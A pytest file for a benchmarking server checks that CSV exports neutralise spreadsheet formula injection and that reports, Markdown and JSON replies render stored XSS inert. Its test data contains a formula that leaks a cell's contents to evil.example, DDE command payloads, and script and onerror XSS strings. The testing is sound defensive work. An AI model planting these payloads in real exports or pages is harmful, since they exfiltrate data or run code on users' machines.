"""What people take away is opened in other programs: no cell is computed there, and no name is a page's own text."""

import csv
import io
from html.parser import HTMLParser
from typing import Any

import pytest
from sqlalchemy import update

from backend.tests import builders
from backend.tests.harness import API, Harness
from obt_core.operations import OperationOutcome, OperationOutcomeStatus
from obt_server.auth.roles import Role
from obt_server.hardware.tables import HardwareRow
from obt_server.results.tables import ResultRow

pytestmark = pytest.mark.parametrize("settings", ["sqlite"], indirect=True)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "  =1+1",
    "＝1+1",  # noqa: RUF001 - a spreadsheet of East Asia computes it too
)
SCRIPT = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)><svg/onload=alert(3)>"
COMPUTED = ("=", "+", "-", "@", "＝", "\t", "\r")  # noqa: RUF001


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def check_computed_nowhere(text: str) -> None:
    """A number may begin with its sign; a text may begin with nothing that begins a formula."""
    for cell in cells(text):
        assert not cell.lstrip().startswith(COMPUTED) or _is_number(cell), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


async def a_result(server: Harness, client_id: str, name: str) -> str:
    client = await server.a_client(client_id, name=name, gpu="RTX 4090", models=("a",))
    await server.a_session([client], ["a"], title=name)
    spec = await client.claim()
    assert spec is not None
    await client.send_samples(spec.job_id, *(builders.a_sample(number) for number in range(1, 9)))
    fingerprint = builders.a_machine(gpu="RTX 4090").fingerprint()
    environment = builders.an_environment(spec, hardware_fingerprint=fingerprint)
    await client.send_outcome(spec.job_id, builders.an_outcome(spec, 8, environment=environment))
    return str(spec.job_id)


@pytest.mark.parametrize("formula", FORMULAS)
async def test_csv_formula_injection_by_a_clients_and_a_models_name(server: Harness, formula: str) -> None:
    await a_result(server, "one", formula)
    async with server.db.write() as session:
        values = {"model": formula, "quantization": formula, "reasons": [formula]}
        await session.execute(update(ResultRow).values(**values))
    text = (await server.owner.get(f"{API}/export/results.csv")).raise_for_status().text
    check_computed_nowhere(text)
    assert sum(formula.strip() in cell for cell in cells(text)) == 4  # all of them are there, as text


@pytest.mark.parametrize("formula", FORMULAS)
async def test_csv_formula_injection_by_what_the_audit_log_keeps(server: Harness, formula: str) -> None:
    await server.a_client("one", name="attic")
    (await server.owner.patch(f"{API}/clients/one", json={"name": formula})).raise_for_status()
    person = await server.owner.post(f"{API}/people", json={"name": f"x{formula}"[:60], "role": Role.VIEWER})
    assert person.status_code in {201, 422}
    reply = await server.owner.get(f"{API}/audit/export", params={"format": "csv"})
    check_computed_nowhere(reply.raise_for_status().text)
    assert reply.headers["content-type"].startswith("text/csv")
    assert reply.headers["content-disposition"].startswith("attachment;")
    assert reply.headers["x-content-type-options"] == "nosniff"


class Page(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


async def hostile_result(server: Harness) -> str:
    """Every name and every text that is not a person's own to choose is a script."""
    result_id = await a_result(server, "one", SCRIPT)
    async with server.db.write() as session:
        machine = builders.a_machine(gpu=SCRIPT).model_copy(update={"os": SCRIPT}).model_dump(mode="json")
        await session.execute(update(HardwareRow).values(snapshot=machine))
        values: dict[str, Any] = {"model": SCRIPT, "quantization": SCRIPT, "reasons": [SCRIPT]}
        await session.execute(update(ResultRow).values(**values))
    return result_id


async def test_stored_xss_in_a_report_by_client_model_gpu_and_reasons(server: Harness) -> None:
    result_id = await hostile_result(server)
    reply = await server.owner.get(f"{API}/export/report", params={"result_id": result_id})
    page = Page(reply.raise_for_status().text)
    assert {tag for tag, _ in page.elements}.isdisjoint({"script", "img", "iframe", "object", "embed", "link", "form"})
    for tag, attributes in page.elements:
        active = [name for name in attributes if name.startswith("on") or name in {"src", "href", "style", "srcdoc"}]
        assert not active, (tag, active)
    assert page.text.count("alert(1)") >= 4  # it is all there, as text
    assert reply.headers["content-security-policy"].startswith("default-src 'none';")


async def test_stored_xss_in_markdown_is_text_for_who_reads_it(server: Harness) -> None:
    await hostile_result(server)
    text = (await server.owner.get(f"{API}/export/results.md")).raise_for_status().text
    assert "alert(1)" in text
    for sign in ("<script", "<img", "<svg"):
        assert text.count(sign) == text.count(f"\\{sign}"), sign


async def test_stored_xss_no_answer_with_texts_of_others_is_read_as_a_page(server: Harness) -> None:
    """A name, a prompt, an error, a line of a log: whatever holds them is JSON, and no browser guesses otherwise."""
    client = await server.a_client("one", name=SCRIPT, models=("a",))
    (await server.owner.put(f"{API}/prompts/evil", json={"text": SCRIPT, "purpose": SCRIPT})).raise_for_status()
    session = await server.a_session([client], ["a"], title=SCRIPT)
    spec = await client.claim()
    assert spec is not None
    failure = builders.a_failure(spec, 0)
    error = failure.error and failure.error.model_copy(update={"message": SCRIPT})
    await client.send_outcome(spec.job_id, failure.model_copy(update={"error": error}))
    asked = {"operation": {"kind": "unload", "model": "a"}, "client_ids": ["one"]}
    await client.beat(allows="models")
    (await server.owner.post(f"{API}/operations", json=asked)).raise_for_status()
    operation = (await client.http.post(f"{API}/operations/claim")).json()["operation"]
    ended = OperationOutcome(
        status=OperationOutcomeStatus.FAILED, started_at=builders.MOMENT, ended_at=builders.MOMENT, error=error
    )
    path = f"{API}/operations/{operation['operation_id']}/outcome"
    (await client.http.put(path, json=ended.model_dump(mode="json"))).raise_for_status()
    for path in (
        "/clients", "/clients/one", "/sessions", f"/sessions/{session['id']}", f"/sessions/{session['id']}/log",
        "/prompts/evil", "/operations", "/audit", "/live/snapshot",
    ):  # fmt: skip
        reply = await server.owner.get(API + path)
        assert "alert(1)" in reply.raise_for_status().text, path
        assert reply.headers["content-type"] == "application/json", path
        assert reply.headers["x-content-type-options"] == "nosniff", path
